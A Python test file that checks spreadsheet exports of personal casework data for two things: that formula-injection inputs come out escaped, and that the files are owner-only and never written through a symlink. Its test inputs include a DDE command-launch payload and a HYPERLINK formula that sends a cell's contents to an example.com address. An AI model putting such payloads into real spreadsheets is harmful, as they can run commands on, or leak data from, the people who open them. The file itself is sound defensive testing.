"""Exports (`assistant export ...`): spreadsheets never run what a person typed, and the
files, which hold personal data, are readable by their owner only."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.casework.exports import write

TYPED = [
    "=HYPERLINK(\"http://example.com/?\"&A1,\"klik\")",
    "+62 812",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "Siti Aminah",
    "",
    "3 - 2",
]


def rows() -> list[dict[str, object]]:
    return [
        {"id": f"rt-{n}", "name": value, "income": -n if n % 2 else n * 1.5, "none": None}
        for n, value in enumerate(TYPED)
    ]


def read_back(path: Path, kind: str) -> list[dict[str, object]]:
    if kind == "csv":
        with path.open(encoding="utf-8", newline="") as handle:
            return list(csv.DictReader(handle))
    values = list(load_workbook(path).active.values)
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_neutralise_formulas(tmp_path, kind):
    path = tmp_path / f"kasus.{kind}"
    assert write(rows(), path, kind) == len(TYPED)
    back = read_back(path, kind)
    for typed, row in zip(TYPED, back, strict=True):
        shown = row["name"] or ""
        if kind == "xlsx":
            typed = typed.replace("\r", "\n")  # XML reads a carriage return as a line feed
        if typed[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            assert shown == "'" + typed
        else:
            assert shown == typed
    if kind == "xlsx":
        sheet = load_workbook(path).active
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
        assert [row["income"] for row in back[:3]] == [0, -1, 3.0]  # numbers stay numbers
    else:
        assert [row["income"] for row in back[:3]] == ["0.0", "-1", "3.0"]  # no quote added


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_exports_are_private(tmp_path, kind):
    old_mask = os.umask(0o022)
    try:
        fresh = tmp_path / f"baru.{kind}"
        write(rows(), fresh, kind)
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
        existing = tmp_path / f"lama.{kind}"
        existing.write_bytes(b"old")
        existing.chmod(0o644)
        write(rows(), existing, kind)
        assert stat.S_IMODE(existing.stat().st_mode) == 0o600
        assert len(read_back(existing, kind)) == len(TYPED)
        assert sorted(p.name for p in tmp_path.iterdir()) == [f"baru.{kind}", f"lama.{kind}"]
    finally:
        os.umask(old_mask)


def test_exports_are_private_and_replace_a_link_instead_of_writing_through_it(tmp_path):
    target = tmp_path / "elsewhere.txt"
    target.write_text("not yours to overwrite")
    link = tmp_path / "kasus.csv"
    link.symlink_to(target)
    write(rows(), link, "csv")
    assert target.read_text() == "not yours to overwrite"
    assert not link.is_symlink() and stat.S_IMODE(link.stat().st_mode) == 0o600
